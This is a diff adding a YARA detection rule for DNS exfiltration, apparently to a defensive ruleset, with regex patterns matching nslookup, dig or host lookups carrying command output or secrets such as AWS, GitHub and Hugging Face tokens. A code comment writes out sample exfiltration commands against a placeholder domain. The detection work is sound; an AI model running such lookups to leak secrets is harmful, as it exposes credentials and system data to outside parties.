@@ -39,3 +39,19 @@ rule LG_YARA_EXFIL_PASTE_CATCHER
     condition:
         any of them
 }
+
+rule LG_YARA_EXFIL_DNS
+{
+    meta:
+        id = "LG-YARA-EXFIL-003"
+        cwe = "CWE-200"
+        severity = "high"
+        description = "DNS lookup whose name carries command output or a secret (DNS exfiltration)"
+        family = "exfiltration"
+    strings:
+        // nslookup $(whoami).x.invalid, dig `cat f | base64`.x.invalid (not ping -c 1 $(hostname))
+        $cmd = /\b(nslookup|dig|host|ping\s+-c\s*[0-9]+)\s+[^\n|;]{0,40}(\$\(|`)\s*(whoami|hostname|id|cat|env|printenv|uname|base64|xxd)\b[^)`\n]{0,80}[)`]\.[\w-]+\./ ascii
+        $var = /\b(nslookup|dig|host)\s+[^\n|;]{0,40}\$\{?(HF_TOKEN|AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|USER|HOSTNAME)\}?\./ ascii
+    condition:
+        any of them
+}
